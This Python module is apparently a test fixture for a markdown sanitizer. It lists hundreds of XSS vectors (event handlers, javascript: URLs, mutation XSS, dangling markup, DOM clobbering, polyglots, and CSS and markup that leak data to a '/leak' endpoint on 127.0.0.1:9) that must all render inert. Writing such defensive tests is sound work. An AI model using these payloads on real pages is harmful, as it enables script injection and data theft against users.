"""HTML and script injection vectors written for this project, one class per section.

Each vector is ``{"id", "technique", "payload"}``. They are what agent text may carry into a
page: every one must render, through ``render_markdown`` and as a ``text`` component, into
allowlisted HTML that runs nothing, navigates nowhere and loads nothing (S6, H15, L2). The
tags, handlers and URL spellings are combined below so each class is covered many ways; the
classes are listed in docs/testing.md.
"""

from __future__ import annotations

from typing import Any

# A call that proves execution wherever it lands; the browser test hooks all of these.
RUN = "alert(7)"

_HANDLER_TAGS = {
    # tag as written: the events it fires by itself or on the user's first touch
    "img src=nope": ["onerror"],
    "image src=nope": ["onerror"],
    "svg": ["onload"],
    "body": ["onload", "onpageshow", "onfocus"],
    "details open": ["ontoggle"],
    "input autofocus": ["onfocus", "onblur", "oninput"],
    "select autofocus": ["onfocus"],
    "textarea autofocus": ["onfocus"],
    "video src=nope": ["onerror", "onloadstart"],
    "audio src=nope": ["onerror"],
    "iframe": ["onload"],
    "object data=nope": ["onerror"],
    "marquee": ["onstart"],
    "style": ["onload"],
    "link rel=stylesheet href=nope": ["onerror"],
    "a href=#": ["onclick", "onmouseover", "onfocus", "onauxclick"],
    "div tabindex=1": ["onfocusin", "onpointerenter", "onkeydown", "oncopy"],
    "p style=animation-name:x": ["onanimationstart"],
    "span style=transition:color 1s": ["ontransitionend"],
    "b": ["onclick", "ondblclick", "oncontextmenu"],
    "form": ["onsubmit", "onreset"],
    "math": ["onclick"],
    "custom-tag tabindex=0": ["onfocus"],
}


def _handlers() -> list[dict[str, Any]]:
    out = []
    for tag, events in _HANDLER_TAGS.items():
        name = tag.split()[0]
        for event in events:
            out.append(f"<{tag} {event}={RUN}>x</{name}>")
            out.append(f'<{tag.upper()} {event.upper()}="{RUN}">x</{name.upper()}>')
    spelled = [
        f"<img/src=nope/onerror={RUN}>",
        f"<img src=nope onerror\n={RUN}>",
        f"<img src=nope\x0conerror={RUN}>",
        f"<img src=nope onerror='{RUN}'//",
        f"<img src=`nope` onerror=`{RUN}`>",
        f'<img """><script>{RUN}</script>">',
        f"<svg/onload={RUN}//",
        f"<svg onload={RUN}",
        "<img src=nope onerror=&#97;&#108;&#101;&#114;&#116;(7)>",
        "<img src=nope onerror=&#x61;&#x6C;&#x65;&#x72;&#x74;(7)>",
        "<img src=nope onerror=\\u0061lert(7)>",
        "<img src=nope onerror=top['al'+'ert'](7)>",
        "<img src=nope onerror=window[atob('YWxlcnQ=')](7)>",
        "<img src=nope onerror=eval(String.fromCharCode(97,108,101,114,116,40,55,41))>",
        "<img src=nope onerror=location='javascript:alert%287%29'>",
        "<img src=nope onerror=throw/**/onerror=alert,7>",
        "<img src=nope onerror=import('data:text/javascript,alert(7)')>",
    ]
    return [{"technique": "event handler", "payload": p} for p in out + spelled]


_SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    "<script src=data:,alert(7)></script>",
    "<script src=//127.0.0.1:9/x.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<script type=text/plain>{RUN}</script><script>{RUN}</script>",
    f"<<script>{RUN};//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\x00>{RUN}</script>",
    f"<script/x>{RUN}</script>",
    f"<script>/*</script><script>*/{RUN}</script>",
    f"<script>{RUN}<!--</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:,{RUN} />",
    f"<math><script>{RUN}</script></math>",
    f"<template><script>{RUN}</script></template>",
    f'<noscript><p title="</noscript><script>{RUN}</script>">',
]

_URL_SPELLINGS = [
    "javascript:alert(7)",
    "JAVASCRIPT:alert(7)",
    " javascript:alert(7)",
    "java\tscript:alert(7)",
    "java\nscript:alert(7)",
    "\x01javascript:alert(7)",
    "javascript&#58;alert(7)",
    "javascript&colon;alert(7)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(7)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(7)",
    "jav&#x09;ascript:alert(7)",
    "javascript%3Aalert(7)",
    "javascript://%0Aalert(7)",
    "vbscript:msgbox(7)",
    "data:text/html,<script>alert(7)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(7)>",
    "livescript:alert(7)",
]

_URL_PLACES = [
    '<a href="{u}">x</a>',
    '<a xlink:href="{u}">x</a>',
    '<iframe src="{u}"></iframe>',
    '<form action="{u}"><button>x</button></form>',
    '<button formaction="{u}">x</button>',
    '<object data="{u}"></object>',
    '<embed src="{u}">',
    '<svg><a href="{u}"><text y=20>x</text></a></svg>',
    '<math href="{u}">x</math>',
    '<img src="{u}">',
    '<area href="{u}">',
    '<base href="{u}">',
]


def _urls() -> list[dict[str, Any]]:
    return [
        {"technique": "script URL", "payload": place.format(u=url)}
        for url in _URL_SPELLINGS
        for place in _URL_PLACES
    ]


_FRAMES_AND_EMBEDS = [
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f"<iframe srcdoc='&lt;img src=x onerror={RUN}&gt;'></iframe>",
    "<embed src=//127.0.0.1:9/x.swf type=application/x-shockwave-flash>",
    "<object type=text/html data=//127.0.0.1:9/></object>",
    "<portal src=//127.0.0.1:9/></portal>",
    "<frameset><frame src=javascript:alert(7)></frameset>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(7)'>",
    "<meta http-equiv=refresh content='0;url=//127.0.0.1:9/'>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(7)+ADw-/script+AD4-",
    "<link rel=import href=//127.0.0.1:9/x>",
    "<base href=//127.0.0.1:9/><script src=x.js></script>",
    "<svg><use href=data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;"
    "&lt;image href='1' onerror='alert(7)' /&gt;&lt;/svg&gt;#x /></svg>",
    "<svg><animate onbegin=alert(7) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(7) /><a><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(7) /><a><text>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='&lt;script&gt;alert(7)&lt;/script&gt;'>",
]

_CSS = [
    "<div style=\"background:url('javascript:alert(7)')\">x</div>",
    '<div style="width:expression(alert(7))">x</div>',
    '<div style="behavior:url(x.htc)">x</div>',
    "<div style=\"-moz-binding:url('//127.0.0.1:9/x.xml#x')\">x</div>",
    "<style>@import '//127.0.0.1:9/x.css';</style>",
    "<style>*{background:url(//127.0.0.1:9/bg)}</style>",
    "<style>input[value^=a]{background:url(//127.0.0.1:9/leak?a)}</style><input value=abc>",
    "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=alert(7)>x</p>",
    '<div style="background-image:image-set(url(//127.0.0.1:9/i) 1x)">x</div>',
    '<div style="font-family:x;src:url(//127.0.0.1:9/f.woff)">x</div>',
    "<div style='position:fixed;inset:0;z-index:9999;background:red'>overlay</div>",
    "<p style=color:re\\d;background:u\\rl(//127.0.0.1:9/e)>x</p>",
]

# Markup the sanitizer and the browser may parse differently (mutation XSS): namespace
# changes, raw-text elements, comments and CDATA that close where a naive parser does not.
_MUTATION = [
    f"<svg><style><img src=nope onerror={RUN}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=nope onerror={RUN}>",
    f'<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror={RUN} src=nope>">',
    f'<svg></p><style><a id="</style><img src=nope onerror={RUN}>">',
    f'<noscript><img title="</noscript><img src=nope onerror={RUN}>"></noscript>',
    f'<xmp><img title="</xmp><img src=nope onerror={RUN}>"></xmp>',
    f'<noembed><img title="</noembed><img src=nope onerror={RUN}>"></noembed>',
    f'<iframe><img title="</iframe><img src=nope onerror={RUN}>"></iframe>',
    f'<title><img title="</title><img src=nope onerror={RUN}>"></title>',
    f'<textarea><img title="</textarea><img src=nope onerror={RUN}>"></textarea>',
    f"<!--><img src=nope onerror={RUN}>-->",
    f"<!-- --!><img src=nope onerror={RUN}>-->",
    f"<svg><![CDATA[><img src=nope onerror={RUN}>]]></svg>",
    f"<?xml ><img src=nope onerror={RUN}>?>",
    f'<!DOCTYPE x [<!ENTITY y "<img src=nope onerror={RUN}>">]>&y;',
    f"<form><math><mtext></form><form><mglyph><style></math><img src=nope onerror={RUN}>",
    f'<a title="a\u2028b" href="javascript:{RUN}">x</a>',
    f"<table><td><svg><foreignobject><p><style><img src=nope onerror={RUN}>",
]

# Text that ends an attribute or a tag early, for a host that builds HTML by concatenation.
_BREAKOUTS = [
    f'"><img src=nope onerror={RUN}>',
    f"'><svg onload={RUN}>",
    f"`><svg onload={RUN}>",
    f'" onmouseover="{RUN}',
    f"' autofocus onfocus='{RUN}",
    f"</div></div></div><script>{RUN}</script>",
    f"]]></x><script>{RUN}</script>",
    f"${{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"<div ng-app ng-csp><p ng-click=$event.view.{RUN}>x</p></div>",
    f"<div v-html=\"'<img src=nope onerror={RUN}>'\"></div>",
    f'<img src="x" data-x=\'"><script>{RUN}</script>\'>',
]

# Text meant to swallow what follows it until a quote the page happens to contain.
_DANGLING = [
    "<img src='//127.0.0.1:9/leak?",
    '<img src="//127.0.0.1:9/leak?',
    "<a href='//127.0.0.1:9/leak?",
    "<base target='",
    "<form action=//127.0.0.1:9/leak><button>go</button><textarea name=x>",
    "<meta http-equiv=refresh content='0;//127.0.0.1:9/leak?",
    "<table background='//127.0.0.1:9/leak?",
    "<input type=hidden name=x value='",
    "<button formaction=//127.0.0.1:9/leak form=f>go</button><textarea form=f>",
]

# Names that shadow the page's own globals and DOM properties (DOM clobbering).
_CLOBBERING = [
    "<img name=lineupConfig src=nope>",
    "<form id=hostConfig><input name=url value=//127.0.0.1:9/></form>",
    "<a id=defaultView href=//127.0.0.1:9/>x</a>",
    "<a id=x><a id=x name=y href=javascript:alert(7)>x</a>",
    "<img name=getElementById src=nope>",
    "<form name=body><input name=innerHTML></form>",
    "<iframe name=top></iframe>",
    "<embed name=location src=nope>",
]

# One string that is script in as many contexts as possible.
_POLYGLOTS = [
    f"javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouse"
    f"over=1/+/[*/[]/+{RUN}//'>",
    f"'\"-->]]>*/</script><svg onload={RUN}>",
    f'-->\'"/></sCript><deTailS open x=">" ontoggle={RUN}>',
    f"\"'--></noscript></noembed></template></title></textarea></style><script>{RUN}</script>",
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={RUN} )//%0D%0A%0d%0a//</stYle/"
    f"</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={RUN}//>\\x3e",
]


def _section(technique: str, payloads: list[str]) -> list[dict[str, Any]]:
    return [{"technique": technique, "payload": p} for p in payloads]


def _all() -> list[dict[str, Any]]:
    raw = [
        *_handlers(),
        *_section("script element", _SCRIPTS),
        *_urls(),
        *_section("frames, embeds, meta and SVG animation", _FRAMES_AND_EMBEDS),
        *_section("CSS", _CSS),
        *_section("mutation (parser differential)", _MUTATION),
        *_section("context breakout", _BREAKOUTS),
        *_section("dangling markup", _DANGLING),
        *_section("DOM clobbering", _CLOBBERING),
        *_section("polyglot", _POLYGLOTS),
    ]
    seen: set[str] = set()
    vectors = []
    for vector in raw:
        if vector["payload"] in seen:
            continue
        seen.add(vector["payload"])
        vectors.append({"id": f"xss-{len(vectors) + 1:03d}", **vector})
    return vectors


VECTORS: list[dict[str, Any]] = _all()
TECHNIQUES = sorted({v["technique"] for v in VECTORS})
